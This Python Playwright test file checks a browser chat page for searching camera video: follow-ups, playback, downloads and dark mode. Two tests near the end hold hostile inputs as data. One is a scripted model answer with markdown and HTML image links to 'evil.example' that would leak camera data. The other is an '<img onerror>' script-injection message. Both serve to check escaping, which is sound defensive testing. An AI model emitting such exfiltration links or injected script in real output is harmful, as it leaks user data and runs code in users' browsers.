"""Questions on the page in Chromium: answers, follow-ups, player, attachments, downloads."""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Page, Route

from tests.browser.conftest import ask, cards, playing, screenshot, wait_until_visible
from var_plugin.api import Index
from var_plugin.app.conversation import ChatRequest
from var_plugin.app.media_registry import MediaRegistry
from var_plugin.app.options import PageOptions
from var_plugin.app.serve import running_page
from var_plugin.media.clips import Clip
from var_plugin.types import Moment

Visit = Callable[..., Page]


def chips(page: Page) -> list[str]:
    return [" ".join(chip.removesuffix("×").split()) for chip in page.locator(".vp-chip").all_inner_texts()]


def test_a_follow_up_refines_the_answer(visit: Visit, colors: str) -> None:
    page = visit(colors)
    screenshot(page, "welcome")
    ask(page, "green")
    assert [card.split(", ")[0] for card in cards(page)[:2]] == [
        "Play moment 1: camera north-gate",
        "Play moment 2: camera south-yard",
    ]
    assert "0:08 – 0:16" in cards(page)[0]
    first = playing(page)
    assert first["start"] == 8
    assert 8 <= first["at"] < 16, "playback begins at the start of the moment"
    screenshot(page, "answer")

    ask(page, "only after 2 pm")
    assert {card.split(", ")[0].split(": ")[1] for card in cards(page)} == {"camera south-yard"}
    assert chips(page) == ["looking for green", "after Sun 01 Nov 2026, 14:00:00 UTC"]
    assert playing(page)["start"] == 24
    screenshot(page, "follow-up")
    wait_until_visible(page, "#vp-chat .user-row")
    wait_until_visible(page, "#vp-chat .vp-cards >> nth=-1 >> .vp-card >> nth=0")

    page.locator(".vp-chip button").last.click()
    page.wait_for_function("() => document.querySelectorAll('.vp-chip').length === 1")
    page.wait_for_function("() => document.querySelectorAll('.vp-cards').length === 3")
    assert "north-gate" in cards(page)[0]


def test_a_click_on_a_card_plays_its_moment(visit: Visit, colors: str) -> None:
    page = visit(colors)
    ask(page, "green")
    playing(page)
    page.locator(".vp-card").nth(1).focus()
    page.keyboard.press("Enter")
    page.wait_for_function("() => document.querySelector('video.vp-video')?.dataset.start === '24.000'")
    assert 24 <= playing(page)["at"] < 32
    page.wait_for_function("() => document.querySelector('video.vp-video').paused", timeout=30_000)
    ends = page.eval_on_selector("video.vp-video", "v => v.currentTime + Number(v.dataset.clipStart)")
    assert ends <= 32.3, "playback stops at the end of the moment"


def test_a_click_on_the_curve_plays_that_position(visit: Visit, colors: str) -> None:
    page = visit(colors)
    ask(page, "green on the north camera")
    playing(page)
    plot = page.locator("#vp-curve .js-plotly-plot .nsewdrag").first
    box = plot.bounding_box()
    assert box
    page.mouse.click(box["x"] + box["width"] * 0.9, box["y"] + box["height"] * 0.9)
    page.wait_for_function("() => document.querySelector('video.vp-video')?.dataset.start === '24.000'")
    assert 24 <= playing(page)["at"] < 32


def test_messages_sent_while_a_clip_is_cut_are_all_answered(
    visit: Visit, colors: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    cut_clip = MediaRegistry.clip

    def slow_clip(registry: MediaRegistry, moment: Moment) -> Clip:
        time.sleep(1.5)
        return cut_clip(registry, moment)

    monkeypatch.setattr(MediaRegistry, "clip", slow_clip)
    page = visit(colors)
    for count, text in enumerate(["green", "only after 2 pm", "only before 5 pm", "on the south camera"]):
        page.fill("#vp-message textarea", text)
        page.keyboard.press("Enter")
        page.wait_for_function("() => document.querySelector('#vp-message textarea').value === ''")
        if count == 0:
            cards(page)
    page.wait_for_function("() => document.querySelectorAll('#vp-chat .vp-cards').length === 4")
    assert page.locator("#vp-chat .user-row").count() == 4
    assert len(chips(page)) == 4, "each message refines the previous one"


def test_the_later_of_two_clicks_wins_even_if_it_arrives_first(visit: Visit, colors: str) -> None:
    page = visit(colors)
    ask(page, "green")
    playing(page)
    held: list[Route] = []

    def hold_first(route: Route) -> None:
        if '"number":1}' in (route.request.post_data or ""):
            held.append(route)
        else:
            route.continue_()

    page.route("**/run/predict*", hold_first)
    page.locator(".vp-card").nth(0).click()
    page.locator(".vp-card").nth(1).click()
    page.wait_for_function("() => document.querySelector('video.vp-video')?.dataset.start === '24.000'")
    assert len(held) == 1, "the first click is still on its way"
    with page.expect_response("**/run/predict*"):
        held[0].continue_()
    ask(page, "play the tenth")  # its answer comes after the effect of the first click
    assert "not one of the 4 moments" in page.inner_text("#vp-chat")
    assert playing(page)["start"] == 24


def test_an_image_and_a_moment_are_queries(visit: Visit, colors: str, tmp_path: Path) -> None:
    from PIL import Image

    image = tmp_path / "what i look for.png"
    Image.new("RGB", (64, 48), (220, 20, 20)).save(image)
    page = visit(colors)
    ask(page, "", files=[image])
    assert "0:00 – 0:08" in cards(page)[0]
    assert chips(page) == ["image attached"]
    ask(page, "on the south camera")
    assert "camera south-yard" in cards(page)[0]
    assert "0:16 – 0:24" in cards(page)[0]
    screenshot(page, "image")
    ask(page, "more like the first")
    assert chips(page)[0].startswith("similar to south-yard 0:16 – 0:24")


def test_a_foreign_script_gives_a_warning(visit: Visit, colors: str) -> None:
    page = visit(colors)
    assert "Query languages: English" in page.inner_text("#vp-ask")
    ask(page, "一个骑自行车的人")
    assert "supports queries in English only" in page.inner_text("#vp-chat")


def test_feedback_and_downloads(visit: Visit, colors: str) -> None:
    page = visit(colors)
    ask(page, "green")
    playing(page)
    page.click("[data-vp=right]")
    page.wait_for_selector("[data-vp=right][aria-pressed=true]")
    screenshot(page, "feedback")
    with page.expect_download() as csv:
        page.click("text=CSV")
    lines = Path(csv.value.path()).read_text().splitlines()
    assert lines[0].startswith("rank,id,video_id,file,camera")
    assert "north-gate.mp4" in lines[1]
    with page.expect_download() as document:
        page.click("text=JSON")
    content = Path(document.value.path()).read_text()
    assert "secret" not in content
    assert [row["camera"] for row in json.loads(content)[:2]] == ["north-gate", "south-yard"]
    with page.expect_download() as clip:
        page.click("text=↓ clip")
    assert Path(clip.value.path()).read_bytes()[4:8] == b"ftyp"


def test_an_empty_answer_names_the_conditions(visit: Visit, colors: str) -> None:
    page = visit(colors)
    ask(page, "green")
    ask(page, "the day before")
    assert "No results with these conditions" in page.inner_text("#vp-chat")
    screenshot(page, "nothing")
    ask(page, "go back")
    assert chips(page) == ["looking for green"]


def test_two_visitors_have_separate_conversations(visit: Visit, colors: str) -> None:
    first, second = visit(colors), visit(colors)
    ask(first, "green on the north camera")
    ask(second, "red on the south camera")
    ask(first, "after 8 am")
    ask(second, "after 2 pm")
    assert chips(first)[:2] == ["looking for green", "camera north-gate"]
    assert chips(second)[:2] == ["looking for red", "camera south-yard"]
    assert "green" not in second.inner_text("#vp-chat")


def test_small_screens_and_dark_mode(visit: Visit, colors: str) -> None:
    phone = visit(colors, width=390, height=844)
    ask(phone, "green")
    playing(phone)
    wait_until_visible(phone, "video.vp-video")
    wait_until_visible(phone, ".vp-card >> nth=0 >> .vp-thumb")
    assert phone.evaluate("() => document.documentElement.scrollWidth") <= 390, "nothing overflows"
    screenshot(phone, "phone")
    dark = visit(colors, dark=True)
    ask(dark, "green")
    playing(dark)
    screenshot(dark, "dark")
    background = dark.evaluate("() => getComputedStyle(document.body).backgroundColor")
    assert sum(map(int, background.removeprefix("rgb(").removesuffix(")").split(", "))) < 200


def test_images_and_links_in_the_answer_of_a_model_are_plain_text(
    visit: Visit, colors_index: Index, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The fixture `visit` fails the test if the browser requests anything from another host."""
    answer = (
        "It is ![there](http://evil.example/leak.png?cameras=north) [here](http://evil.example/) <b>now</b> "
        '<a href="http://evil.example/">go</a> <img src="http://evil.example/leak.png">'
    )

    class Scripted:
        def read(self, *_: object) -> tuple[ChatRequest, str]:
            return ChatRequest(text="green"), answer

    monkeypatch.setattr("var_plugin.app.serve.load_assistant", lambda name: Scripted())
    with running_page(colors_index, PageOptions(model="openai:scripted")) as address:
        page = visit(address)
        ask(page, "where is it?")
        assert "north-gate" in cards(page)[0]
        assert answer in page.inner_text("#vp-chat")
        assert "provider, openai" in page.inner_text("#vp-ask")
        active = page.locator("#vp-chat .message :is(a, b, img[src*=evil])")
        assert active.evaluate_all("nodes => nodes.map(node => node.outerHTML)") == []


def test_html_in_a_message_is_escaped(visit: Visit, colors: str) -> None:
    page = visit(colors)
    ask(page, "<img src=x onerror=\"document.title='broken in'\"> green")
    assert page.title() != "broken in"
    assert "<img src=x onerror=" in page.inner_text("#vp-chat"), "it is shown as it was typed"
